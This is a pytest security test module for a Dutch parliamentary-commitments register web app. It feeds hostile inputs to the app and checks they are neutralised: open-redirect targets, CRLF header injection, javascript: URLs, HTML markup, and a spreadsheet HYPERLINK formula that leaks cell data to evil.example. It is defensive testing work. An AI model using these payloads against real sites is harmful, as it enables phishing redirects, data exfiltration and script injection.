"""Input made to hurt: every path stays bounded in time and memory (issue: hostile input)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import subprocess
import sys
import textwrap
import threading
import zipfile

import flask_migrate
import icalendar
import openpyxl
import pytest
import sqlalchemy as sa

from app import MIGRATIONS_DIR, create_app
from app.auth import services as auth_services
from app.auth.models import Role, User
from app.auth.signals import password_link_made
from app.dbtypes import utcnow
from app.extensions import db
from app.register import queries, services
from app.register.models import Commitment, CommitmentStatus, Document, Ministry
from app.reminders import alerts, following, outbox
from app.reminders.models import Follower, MessageKind, OutboxMessage
from config import TestConfig
from tests.conftest import PASSWORD, REPO_DIR, database_url, make_app

#: Generous: an honest 400 KB text reads in well under a second; the old splitter took minutes.
TIME_BOUND_SECONDS = 20


def run_bounded(code: str) -> str:
    """Run ``code`` in a fresh interpreter; fail when it takes longer than the bound."""
    try:
        finished = subprocess.run(
            [sys.executable, "-c", textwrap.dedent(code)],
            cwd=REPO_DIR,
            capture_output=True,
            text=True,
            timeout=TIME_BOUND_SECONDS,
            check=True,
        )
    except subprocess.TimeoutExpired:
        pytest.fail(f"took longer than {TIME_BOUND_SECONDS} s")
    return finished.stdout


@pytest.mark.parametrize(
    "pattern",
    [
        "a. B ",  # a one-letter "abbreviation" before every capital: nothing ends a sentence
        "nr. 4 ",  # a number reference, again and again
        "o.a. Dit ",
        "x" * 5000 + ". ",  # very long words before each full stop
    ],
)
def test_pathological_text_is_split_in_bounded_time(pattern):
    output = run_bounded(
        f"""
        from app.letters.text import clean
        text = {pattern!r} * (400_000 // {len(pattern)})
        letter = clean(text)
        print(len(letter.text), len(letter.sentences))
        """
    )
    length, sentences = map(int, output.split())
    assert length > 390_000
    assert sentences >= 1


@pytest.mark.parametrize(
    "target",
    [
        "/%09/evil.com",  # a tab the browser drops: //evil.com
        "/%0a/x",  # a newline: used to be a 500
        "/%0d%0aSet-Cookie:x=1",
        "//evil.com",
        "/\\evil.com",
        "/%5Cevil.com",
        "https://evil.com/",
        "javascript:alert(1)",
        "evil.com",
        "/%E3%80%80/evil.com",  # an ideographic space
    ],
)
def test_after_login_only_paths_on_this_site(client, create_user, target):
    user = create_user()
    response = client.post(
        f"/beheer/inloggen?next={target}", data={"email": user.email, "password": PASSWORD}
    )
    assert response.status_code == 302
    assert response.headers["Location"] == "/beheer/"


def test_after_login_a_path_on_this_site_is_kept(client, create_user):
    user = create_user()
    response = client.post(
        "/beheer/inloggen?next=/beheer/toezeggingen/nieuw%3Fx%3D1",
        data={"email": user.email, "password": PASSWORD},
    )
    assert response.headers["Location"] == "/beheer/toezeggingen/nieuw?x=1"


FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Klik hier")',
    "+31 6 1234 5678",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",  # stored trimmed, so this one is "=1+1"
]


@pytest.mark.parametrize("title", FORMULAS)
def test_spreadsheets_never_run_a_title_as_a_formula(client, create_commitment, title):

    title = create_commitment(title=title).title  # as stored: surrounding blanks trimmed
    db.session.commit()

    for separator in (",", ";"):
        raw = client.get(f"/toezeggingen.csv?scheiding={separator}").get_data()
        rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig")), delimiter=separator))
        assert [row["titel"] for row in rows] == ["'" + title]

    workbook_bytes = client.get("/toezeggingen.xlsx").get_data()
    with zipfile.ZipFile(io.BytesIO(workbook_bytes)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    sheet = openpyxl.load_workbook(io.BytesIO(workbook_bytes)).worksheets[0]
    headings = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=2, column=headings.index("titel") + 1)
    assert cell.value == title
    assert cell.data_type == "s"

    api_titles = [item["title"] for item in client.get("/api/v1/commitments").json["items"]]
    assert api_titles == [title]


MARKUP = '</title><a href="https://evil.example/">klik</a>'


def test_no_email_lets_markup_from_a_title_or_name_into_its_html(
    app, runner, create_ministry, create_user, create_commitment
):
    """All seven HTML e-mails: reminder, weekly digest, rappel, follow confirmation and notice,
    the admins' outbox alert and the invitation."""

    ministry = create_ministry(code="<i>", name=f"Ministerie {MARKUP}")
    owner = create_user(name=f"Eigenaar {MARKUP}", ministry=ministry)
    create_user(name=f"Coördinator {MARKUP}", ministry=ministry, role=Role.COORDINATOR)
    made_on = dt.date(2019, 4, 11)
    owned = create_commitment(
        title=MARKUP, ministry=ministry, owner=owner, deadline=dt.date(2019, 9, 18), made_on=made_on
    )
    create_commitment(title=f"Zonder eigenaar {MARKUP}", ministry=ministry, made_on=made_on)
    follower, _queued = following.follow("volger@example.org", commitment=owned)
    following.confirm(follower)
    services.change_status(owned, CommitmentStatus.PARTIALLY_FULFILLED, note=MARKUP)
    db.session.commit()
    # The rappel (1 September), the Monday digest, the reminder 14 days before the deadline.
    for day in (dt.date(2019, 9, 1), dt.date(2019, 9, 2), dt.date(2019, 9, 4)):
        result = runner.invoke(args=["reminders", "run", "--today", day.isoformat()])
        assert result.exit_code == 0, result.output

    # The admins' alert: a message waiting two hours, the mail server's last words hostile.
    admin = create_user(name=f"Beheerder {MARKUP}", role=Role.ADMIN)
    # An invitation: the new account's name, its ministry and the inviting admin hostile.
    invited = create_user(name=f"Nieuw {MARKUP}", ministry=ministry)
    password_link_made.send(
        invited, link="http://register.test/beheer/wachtwoord/x", invited=True, actor=admin
    )
    waiting = outbox.enqueue(
        key="hostile:waiting",
        kind=MessageKind.FOLLOW_CONFIRMATION,
        recipient_email="wacht@example.org",
        recipient_name=None,
        template="follow_confirmation",
        what="TZ-2019-0001",
        confirm_url="http://register.test/volgen/bevestigen/x",
        now=utcnow() - dt.timedelta(hours=2),
    )
    db.session.get_one(OutboxMessage, waiting).last_error = MARKUP
    assert alerts.check_outbox() is not None
    db.session.commit()

    messages = db.session.scalars(sa.select(OutboxMessage)).all()
    assert {message.kind for message in messages} == set(MessageKind)
    for message in messages:
        assert MARKUP not in message.body_html, message.kind
        assert "<title>" in message.body_html
        assert 'href="https://evil.example/"' not in message.body_html


@pytest.fixture
def committing_app(backend, tmp_path):
    """An app on a database of its own, where each thread's work is really committed."""

    application = make_app(database_url(backend, tmp_path, "concurrency_tests"))
    with application.app_context():
        flask_migrate.upgrade(directory=str(MIGRATIONS_DIR))
        yield application
        db.session.remove()
        db.engine.dispose()


def test_simultaneous_new_promises_all_get_a_number_of_their_own(committing_app):

    db.session.add(Ministry(code="JenV", name="Justitie en Veiligheid"))
    db.session.commit()
    clerks = 16
    start = threading.Barrier(clerks)
    failures: list[BaseException] = []

    def record(index: int) -> None:
        # Each thread is a POST request of its own, with its own session and connection.
        with committing_app.test_request_context("/beheer/toezeggingen/nieuw", method="POST"):
            try:
                start.wait(timeout=30)
                ministry = db.session.scalars(sa.select(Ministry)).one()
                services.create_commitment(
                    title=f"Toezegging {index}",
                    text="Ik zal uw Kamer informeren.",
                    made_on=dt.date(2019, 4, 11),
                    ministry=ministry,
                )
                db.session.commit()
            except BaseException as error:  # reported below, with its kind
                failures.append(error)
            finally:
                db.session.remove()

    threads = [threading.Thread(target=record, args=(index,)) for index in range(clerks)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)

    assert failures == []
    numbers = sorted(db.session.scalars(sa.select(Commitment.number)))
    assert numbers == [f"TZ-2019-{sequence:04d}" for sequence in range(1, clerks + 1)]


def test_parallel_guesses_are_counted_one_by_one(committing_app):
    """Twenty simultaneous wrong passwords: exactly the allowed number is ever checked."""

    user = User(email="doelwit@minjenv.example", name="Doelwit", role=Role.ADMIN)
    user.set_password(PASSWORD)
    db.session.add(user)
    db.session.commit()
    email = user.email
    guesses = 20
    start = threading.Barrier(guesses)
    outcomes: list[str] = []

    def guess(number: int) -> None:
        with committing_app.test_request_context("/beheer/inloggen", method="POST"):
            start.wait(timeout=30)
            try:
                auth_services.authenticate(email, f"gok {number}", "203.0.113.9")
            except auth_services.InvalidCredentials:
                outcomes.append("checked")
            except auth_services.LoginThrottled:
                outcomes.append("throttled")
            db.session.commit()
            db.session.remove()

    threads = [threading.Thread(target=guess, args=(number,)) for number in range(guesses)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)

    assert outcomes.count("checked") == auth_services.MAX_FAILURES_PER_ACCOUNT_AND_ADDRESS
    assert outcomes.count("throttled") == guesses - outcomes.count("checked")


@pytest.mark.parametrize("trusted_proxies", [0, 1])
def test_the_client_address_comes_from_a_proxy_only_when_one_is_configured(
    backend, tmp_path, trusted_proxies
):
    """Behind a configured proxy each client has its own address; without one, a forged
    X-Forwarded-For changes nothing."""

    url = database_url(backend, tmp_path, "proxy_tests")
    config = type(
        "ProxyConfig",
        (TestConfig,),
        {"SQLALCHEMY_DATABASE_URI": url, "TRUSTED_PROXIES": trusted_proxies},
    )
    application = create_app(config)
    with application.app_context():
        flask_migrate.upgrade(directory=str(MIGRATIONS_DIR))
        user = User(email="klerk@minjenv.example", name="Klerk", role=Role.ADMIN)
        user.set_password(PASSWORD)
        db.session.add(user)
        db.session.commit()
        client = application.test_client()
        proxy = {"REMOTE_ADDR": "10.0.0.1"}
        for number in range(auth_services.MAX_FAILURES_PER_ADDRESS):
            client.post(
                "/beheer/inloggen",
                data={"email": f"gok{number}@minjenv.example", "password": "fout"},
                headers={"X-Forwarded-For": f"203.0.113.{number}"},
                environ_base=proxy,
            )
        someone_else = client.post(
            "/beheer/inloggen",
            data={"email": user.email, "password": PASSWORD},
            headers={"X-Forwarded-For": "198.51.100.7"},
            environ_base=proxy,
        )
        db.session.remove()
        db.engine.dispose()
    assert someone_else.status_code == (302 if trusted_proxies else 429)


def test_staff_pages_and_logged_in_answers_are_never_stored(
    client, auth, create_user, create_commitment
):

    create_commitment()
    clerk = create_user()
    db.session.commit()
    login_page = client.get("/beheer/inloggen")
    assert login_page.headers["Cache-Control"] == "no-store"
    anonymous_api = client.get("/api/v1/commitments")
    assert "no-store" not in anonymous_api.headers.get("Cache-Control", "")
    assert "ETag" in anonymous_api.headers

    auth.login(clerk)
    for url in ("/beheer/", "/beheer/toezeggingen/nieuw", "/api/v1/commitments", "/toezeggingen"):
        response = client.get(url)
        assert response.status_code == 200, url
        assert response.headers["Cache-Control"] == "no-store", url
        assert "ETag" not in response.headers, url


def test_strict_transport_security_only_over_https(client):
    assert "Strict-Transport-Security" not in client.get("/").headers
    secure = client.get("/", base_url="https://register.test")
    assert secure.headers["Strict-Transport-Security"] == "max-age=31536000; includeSubDomains"
    missing = client.get("/bestaat-niet", base_url="https://register.test")
    assert missing.status_code == 404
    assert "Strict-Transport-Security" in missing.headers


def test_links_that_leave_the_page_ignore_the_host_header(client, create_commitment):

    create_commitment(deadline=dt.date(2019, 7, 4))
    db.session.commit()
    evil = {"Host": "evil.example"}
    api = client.get("/api/v1/commitments", headers=evil).json
    assert api["items"][0]["url"] == "http://register.test/toezeggingen/TZ-2019-0001"
    detail = client.get("/api/v1/commitments/TZ-2019-0001", headers=evil).json
    assert detail["url"].startswith("http://register.test/")
    feed = client.get("/toezeggingen.atom?status=open", headers=evil).get_data(as_text=True)
    assert "evil.example" not in feed
    assert 'href="http://register.test/toezeggingen.atom?status=open"' in feed
    calendar = icalendar.Calendar.from_ical(client.get("/toezeggingen.ics", headers=evil).data)
    [event] = calendar.walk("VEVENT")
    assert str(event["url"]) == "http://register.test/toezeggingen/TZ-2019-0001"


@pytest.mark.parametrize(
    "url", ["javascript:alert(document.cookie)", "JaVaScRiPt:alert(1)", "data:text/html,x", "//x"]
)
def test_a_document_address_is_a_web_address_or_nothing(client, auth, create_user, url):

    auth.login(create_user(role=Role.ADMIN))
    fields = {"reference": "32 735, nr. 243", "kind": "brief", "title": "Brief", "url": url}
    response = client.post("/beheer/referentie/documenten/nieuw", data=fields)
    assert response.status_code == 400
    assert "Een adres moet met http:// of https:// beginnen" in response.get_data(as_text=True)
    assert db.session.scalar(sa.select(sa.func.count()).select_from(Document)) == 0


def test_an_unsafe_address_stored_before_is_never_a_link(
    client, create_document, create_commitment
):

    letter = create_document("kst-32735-243")
    create_commitment(source_document=letter)
    db.session.execute(
        sa.text("UPDATE document SET url = 'javascript:alert(1)' WHERE id = :id"), {"id": letter.id}
    )
    db.session.commit()
    page = client.get("/toezeggingen/TZ-2019-0001").get_data(as_text=True)
    assert "javascript:" not in page
    assert client.get("/api/v1/commitments/TZ-2019-0001").json["source"]["url"] is None


def test_one_client_cannot_sign_up_many_addresses_to_follow(client, create_commitment):

    create_commitment()
    db.session.commit()

    def ask(number: int, address: str = "192.0.2.50"):
        response = client.post(
            "/volgen",
            data={
                "email": f"vreemde{number}@example.org",
                "target": "toezegging",
                "value": "TZ-2019-0001",
            },
            environ_base={"REMOTE_ADDR": address},
        )
        if response.status_code != 302:
            return response  # refused: the form again, with why
        return client.get(response.headers["Location"], environ_base={"REMOTE_ADDR": address})

    for number in range(following.MAX_REQUESTS_PER_CLIENT_PER_DAY):
        assert "We hebben een e-mail gestuurd" in ask(number).get_data(as_text=True)
    refused = ask(99)
    assert refused.status_code == 429
    assert "Vanaf uw adres zijn vandaag al veel volgverzoeken gedaan." in refused.get_data(
        as_text=True
    )
    count = sa.select(sa.func.count()).select_from(Follower)
    assert db.session.scalar(count) == following.MAX_REQUESTS_PER_CLIENT_PER_DAY
    assert "We hebben een e-mail gestuurd" in ask(100, "198.51.100.1").get_data(as_text=True)


def test_a_deactivated_account_cannot_become_owner(client, auth, create_user, create_ministry):

    jenv = create_ministry(code="JenV")
    coordinator = create_user(role=Role.COORDINATOR, ministry=jenv)
    gone = create_user(ministry=jenv, active=False)
    db.session.commit()
    auth.login(coordinator)
    form = {
        "text": "Ik zal uw Kamer voor de zomer informeren.",
        "made_on": "11-04-2019",
        "ministry": str(jenv.id),
        "owner": str(gone.id),
        "save": "Opslaan",
    }
    refused = client.post("/beheer/toezeggingen/nieuw", data=form)
    assert refused.status_code == 400
    assert "Dit account is niet meer actief" in refused.get_data(as_text=True)
    assert queries.commitment_by_number("TZ-2019-0001") is None

    with pytest.raises(services.CommitmentRuleError, match="niet meer actief"):
        services.create_commitment(
            title="Via de service",
            text="Tekst",
            made_on=dt.date(2019, 4, 11),
            ministry=jenv,
            owner=gone,
        )
